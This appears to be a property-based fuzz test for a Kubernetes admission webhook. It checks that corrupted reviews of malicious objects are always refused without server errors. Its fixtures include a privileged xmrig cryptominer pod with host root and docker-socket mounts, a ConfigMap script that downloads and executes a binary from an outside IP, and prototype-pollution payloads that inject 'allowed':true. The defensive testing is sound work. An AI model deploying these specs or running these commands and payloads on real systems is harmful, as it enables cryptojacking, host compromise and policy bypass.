// Property tests over the real HTTPS server (issue 10, item 5): valid AdmissionReviews of evil
// objects, corrupted at random paths (types swapped, fields deleted, huge numbers, prototype keys,
// toString objects), must never be admitted by /validate, never answer 5xx, and always answer an
// AdmissionReview or a 4xx JSON error. Seeded, so a failure replays; JACKSTOP_FUZZ_RUNS and
// JACKSTOP_FUZZ_SEED run it longer or elsewhere (`JACKSTOP_FUZZ_RUNS=20000 npx tap ...`).
import fc from 'fast-check'
import t from 'tap'
import type { AdmissionReview } from '../../src/admission/types.ts'
import type { KubeObject } from '../../src/workloads/kubernetes.ts'
import { type Path, pathsOf } from '../helpers/object-paths.ts'
import { admissionReview, controller } from '../helpers/reviews.ts'
import { type HttpResult, startServer } from '../helpers/server.ts'

const SEED = Number(process.env.JACKSTOP_FUZZ_SEED ?? 20261202)
const RUNS = Number(process.env.JACKSTOP_FUZZ_RUNS ?? 250)

const server = await startServer()
t.teardown(server.close)

const xmrig = {
  name: 'worker',
  image: 'docker.io/xmrig/xmrig:6.21.0',
  args: ['-o', 'pool.supportxmr.com:443', '-u', '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'],
  securityContext: { privileged: true, capabilities: { add: ['SYS_ADMIN'] } },
  volumeMounts: [{ name: 'host', mountPath: '/host' }],
}
// Several independent reasons to refuse, so no handful of deletions can leave an innocent pod.
const evilPodSpec = {
  hostPID: true,
  hostNetwork: true,
  hostIPC: true,
  containers: [xmrig],
  initContainers: [{ ...xmrig, name: 'setup' }],
  volumes: [
    { name: 'host', hostPath: { path: '/' } },
    { name: 'docker', hostPath: { path: '/var/run/docker.sock' } },
  ],
}
const evilConfigMap = {
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: { name: 'miner-config', namespace: 'shop' },
  data: {
    'config.json': JSON.stringify({ pools: [{ url: 'stratum+tcp://pool.supportxmr.com:3333', user: xmrig.args[3] }] }),
    'pools.txt': 'stratum+ssl://xmr.pool.minergate.com:45700',
    'start.sh': 'curl -s http://198.51.100.7/xmrig -o /tmp/x && chmod +x /tmp/x && /tmp/x -o pool.minexmr.com:4444',
  },
}

const bases: AdmissionReview[] = [
  admissionReview({ object: { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'evil', namespace: 'shop' }, spec: evilPodSpec } }),
  admissionReview({ object: controller('Deployment', 'evil', evilPodSpec) }),
  admissionReview({ object: controller('DaemonSet', 'evil', evilPodSpec) }),
  admissionReview({ object: controller('CronJob', 'evil', evilPodSpec) }),
  admissionReview({ object: evilConfigMap as KubeObject }),
]

// Stands for a value only raw JSON can carry; replaced in the serialised body.
const PROTO_KEY = '\u0000proto-key\u0000'
const CONSTRUCTOR_KEY = '\u0000constructor-key\u0000'
const RAW: Record<string, string> = {
  [JSON.stringify(PROTO_KEY)]: '{"__proto__":{"allowed":true,"kind":"Pod"}}',
  [JSON.stringify(CONSTRUCTOR_KEY)]: '{"constructor":{"prototype":{"allowed":true}}}',
}

type Corruption = { delete: true } | { wrap: 'array' | 'object' } | { value: unknown }

const corruption: fc.Arbitrary<Corruption> = fc.oneof(
  fc.constant({ delete: true } as const),
  fc.constantFrom({ wrap: 'array' } as const, { wrap: 'object' } as const),
  fc
    .constantFrom<unknown>(
      null,
      true,
      false,
      0,
      -1,
      1.5,
      1e308,
      -1e308,
      2 ** 64,
      Number.MAX_SAFE_INTEGER + 2,
      '',
      'x',
      'x'.repeat(5000),
      [],
      [{}],
      {},
      { toString: 1, valueOf: 1 },
      { toString: { toString: 1 }, toJSON: 1 },
      PROTO_KEY,
      CONSTRUCTOR_KEY,
    )
    .map((value) => ({ value })),
)

type Container = Record<string, unknown> | unknown[]

function corrupt(review: unknown, path: Path, how: Corruption): void {
  let parent = review as Container
  for (const key of path.slice(0, -1)) parent = (parent as Record<string | number, unknown>)[key] as Container
  const key = path.at(-1) as string | number
  const holder = parent as Record<string | number, unknown>
  if ('delete' in how) {
    if (Array.isArray(parent)) parent.splice(key as number, 1)
    else delete holder[key]
  } else if ('wrap' in how) {
    holder[key] = how.wrap === 'array' ? [holder[key]] : { value: holder[key] }
  } else {
    holder[key] = how.value
  }
}

const corruptedReview = fc
  .record({
    base: fc.nat(bases.length - 1),
    edits: fc.array(fc.tuple(fc.nat(), corruption), { minLength: 1, maxLength: 3 }),
  })
  .map(({ base, edits }) => {
    const review = structuredClone(bases[base]) as unknown
    const applied: string[] = []
    for (const [pick, how] of edits) {
      const paths = pathsOf(review)
      if (paths.length === 0) break
      const path = paths[pick % paths.length] as Path
      // Deleting a ConfigMap's whole data leaves a valid, empty ConfigMap: innocent, not an evasion.
      if ('delete' in how && path.join('.') === 'request.object.data') continue
      corrupt(review, path, how)
      applied.push(`${path.join('.')} ${JSON.stringify(how)}`)
    }
    let body = JSON.stringify(review)
    for (const [marker, raw] of Object.entries(RAW)) body = body.replaceAll(marker, raw)
    return { body, applied, uid: (review as { request?: { uid?: unknown } }).request?.uid }
  })

const seen = { refused: 0, clientErrors: 0 }

/** The invariants of any answer: a 4xx JSON error, or an AdmissionReview for the uid asked about. */
function checkAnswer(result: HttpResult, uid: unknown): void {
  if (result.status >= 500) throw new Error(`HTTP ${result.status}: ${result.text}`)
  if (result.status >= 400) {
    const { statusCode, error, message } = result.body as { statusCode?: unknown; error?: unknown; message?: unknown }
    if (statusCode !== result.status || typeof error !== 'string' || typeof message !== 'string') throw new Error(`not a JSON error: ${result.text}`)
    seen.clientErrors += 1
    return
  }
  if (result.status !== 200 || result.body.kind !== 'AdmissionReview' || result.body.apiVersion !== 'admission.k8s.io/v1') {
    throw new Error(`not an AdmissionReview: HTTP ${result.status} ${result.text.slice(0, 300)}`)
  }
  if (result.body.response?.uid !== uid) throw new Error(`answer for another uid: ${result.text.slice(0, 300)}`)
}

t.test('/validate never admits a corrupted review of an evil object, never answers 5xx', async (t) => {
  await fc.assert(
    fc.asyncProperty(corruptedReview, async ({ body, uid }) => {
      const result = await server.post('/validate', body)
      checkAnswer(result, uid)
      if (result.status === 200) {
        if (result.body.response?.allowed !== false) throw new Error(`admitted: ${result.text.slice(0, 500)}`)
        seen.refused += 1
      }
    }),
    { seed: SEED, numRuns: RUNS },
  )
  // Both kinds of answer were exercised, so the invariants were checked on each.
  t.ok(seen.refused > RUNS / 10, `${seen.refused} refusals`)
  t.ok(seen.clientErrors > RUNS / 10, `${seen.clientErrors} 4xx errors`)
})

t.test('/mutate answers every corrupted review with an AdmissionReview or a 4xx, never 5xx', async (t) => {
  const before = { ...seen }
  await fc.assert(
    fc.asyncProperty(corruptedReview, async ({ body, uid }) => checkAnswer(await server.post('/mutate', body), uid)),
    { seed: SEED + 1, numRuns: Math.ceil(RUNS / 2) },
  )
  t.ok(seen.clientErrors > before.clientErrors)
})

t.test('the server is still healthy after the corrupted reviews', async (t) => {
  const health = await server.get('/healthz')
  t.same({ status: health.status, body: health.body }, { status: 200, body: { status: 'ok' } })
})
